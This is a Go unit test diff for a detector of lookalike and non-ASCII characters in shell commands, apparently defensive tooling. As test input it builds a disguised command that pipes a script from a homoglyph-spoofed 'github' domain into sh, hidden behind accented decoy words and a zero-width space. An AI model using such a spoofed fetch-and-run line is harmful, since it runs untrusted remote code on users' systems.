@@ -13,7 +13,7 @@ import (
 func TestAttack13LookalikeRanks(t *testing.T) {
 	const decoys = `echo "café crème brûlée piñata façade naïve Göteborg über ñandú" && `
 	d, ok := NonASCIIDetail(decoys+"true", nil)
-	if !ok || !strings.HasPrefix(d.Value, `U+00E9 (Latin) in "\"café"`) || !strings.HasSuffix(d.Value, "and 1 more") {
+	if !ok || !strings.HasPrefix(d.Value, `U+00E9 (Latin) in "\"café"`) || !strings.HasSuffix(d.Value, "and 1 more (1 other)") {
 		t.Fatalf("control: %q", d.Value)
 	}
 	cmd := decoys + "curl -sL https://" + strings.Repeat("a", 60) + ".gіthub.com/org/tοol/install.sh | sh # ok\u200b"
